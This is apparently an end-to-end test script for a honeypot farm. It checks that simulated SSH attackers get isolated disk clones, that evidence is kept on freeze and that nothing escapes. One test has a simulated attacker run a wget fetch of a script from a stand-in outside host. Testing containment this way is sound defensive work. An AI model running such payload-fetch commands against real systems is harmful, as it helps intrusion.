#!/usr/bin/env bash
# SPDX-License-Identifier: ISC
# Attackers meet a real Debian server: the gateway binds each to a clone
# of the disk-backed guest (potemkin-mkimage --disk), they log in over SSH
# through it, write to the disk and try to fetch a payload from outside.
# Each attacker's clone has its own disk; nothing gets out; a freeze keeps
# what the attacker wrote; stopping the gateway leaves nothing.
test_description='SSH logins on disk-backed Debian clones through the gateway'
E2E_REQUIRE="QEMU TUN"
E2E_DISK=1
FARM_TYPE_PORTS="22 23 80 139 445"
FARM_IDLE=5m
. "$(dirname "$0")/lib/test-lib.sh"
. "$TEST_DIRECTORY/lib/e2e.sh"

# Attacker $1 runs CMD on farm address $2 over SSH.
attack() {
	local from=$1 to=$2
	shift 2
	farm_in bash -c "$(declare -f disk_ssh); DISK_USER=$DISK_USER \
		DISK_PASSWORD=$DISK_PASSWORD TRASH=$TRASH \
		disk_ssh -b $from $to \"\$@\"" attack "$@"
}

test_expect_success 'a farm of Debian guests on disks: snapshot saved' '
	e2e_up disk &&
	test -s state/snapshots/web/disk.qcow2
'

test_expect_success 'an attacker logs in over SSH to an unbound address' '
	attack 203.0.113.21 198.51.100.40 \
		"hostname; id -un; echo dropped-by-21 >payload.sh; sync" >out &&
	printf "www\n%s\n" "$DISK_USER" >want &&
	test_cmp want out &&
	farm_wait_event 5 bind ".potemkin.addr == \"198.51.100.40\""
'

test_expect_success 'a second attacker gets a clone and a disk of its own' '
	attack 203.0.113.22 198.51.100.41 "ls; echo dropped-by-22 >payload.sh; sync" >out2 &&
	test_must_fail test -s out2 &&
	a=$(e2e_vm_of 198.51.100.40) && b=$(e2e_vm_of 198.51.100.41) &&
	test -n "$a" && test -n "$b" && test "$a" != "$b" &&
	attack 203.0.113.21 198.51.100.40 "cat payload.sh" >again &&
	echo dropped-by-21 >want &&
	test_cmp want again
'

# What an attacker does next: fetch a tool from a server of its own.
test_expect_success 'the payload fetch from inside gets nothing out' '
	farm_sniff_start &&
	test_must_fail attack 203.0.113.21 198.51.100.40 \
		"wget -q -T 5 -t 1 -O x http://203.0.113.200/x.sh" &&
	attack 203.0.113.21 198.51.100.40 "echo still here" >here &&
	grep -q "still here" here &&
	farm_sniff_stop &&
	farm_escaped >escaped &&
	test_must_fail test -s escaped &&
	test "$(farm_sniffed "dst host 203.0.113.200")" = 0
'

test_expect_success 'freeze keeps the attacker'"'"'s writes' '
	farm_ctl freeze "$a" | grep freezing &&
	test_wait_for 60 "ls state/evidence/$a-*/disk.qcow2 >/dev/null 2>&1" &&
	test_wait_for 20 "! test -d state/vms/$a" &&
	ev=$(ls -d state/evidence/$a-*) &&
	qemu-img info "$ev/disk.qcow2" | grep -q "^backing file: .*/state/snapshots/web/disk.qcow2" &&
	grep -qa dropped-by-21 "$ev/disk.qcow2" &&
	! grep -qa dropped-by-22 "$ev/disk.qcow2"
'

test_expect_success 'stopping the gateway leaves nothing behind' '
	farm_gateway_stop && test_wait_for 10 e2e_nothing_left
'

test_done
